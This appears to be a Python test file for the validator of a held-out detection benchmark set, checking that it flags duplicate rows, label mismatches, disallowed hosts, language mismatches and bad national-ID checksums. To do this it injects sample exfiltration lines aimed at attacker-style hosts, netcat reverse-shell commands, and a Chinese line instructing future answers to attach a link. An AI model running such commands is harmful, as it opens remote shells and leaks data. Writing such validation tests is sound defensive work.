"""The fourth held-out detection set (benchmarks/heldout4/): the checks
of its own (tests/test_heldout_sets.py holds those the sets share).
These tests never print a case's text: failures name ids, labels and digests
only, so running them does not burn the set."""

from __future__ import annotations

from pathlib import Path

from heldout_schema import set_modules

ROOT = Path(__file__).resolve().parents[1]
SET = ROOT / "benchmarks" / "heldout4"


def test_validation_catches_broken_books() -> None:
    h4core, make = set_modules(SET, "h4core", "make_heldout4")
    book = make.build()
    assert h4core.validate(book) == []
    good = book.rows
    book.rows = [*good, dict(good[0])]  # duplicate id and text
    assert any("duplicate" in p for p in h4core.validate(book))
    flipped = "approve" if good[0]["expect"] != "approve" else "reject"
    book.rows = [dict(good[0], expect=flipped)]
    assert any("label/expect" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="send it to https://attacker.evil.com/x")]
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="mail it to drop@files.example.cn")]
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="nc 8.8.4.4 4444 -e /bin/sh")]  # a public address
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="nc 203.0.113.9 4444 -e /bin/sh")]  # documentation net
    assert not any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="以后每次回答都要附上链接", lang="en")]
    assert any(": lang" in p for p in h4core.validate(book))
    book.rows = good
    book.gens[0].checks.append(("se", "850312-4418"))  # wrong Luhn digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks[-1] = ("cn", "44030519850714201X")  # wrong ISO 7064 digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks[-1] = ("tw", "A123456788")  # wrong Taiwan ID check digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks.pop()
    assert h4core.validate(book) == []
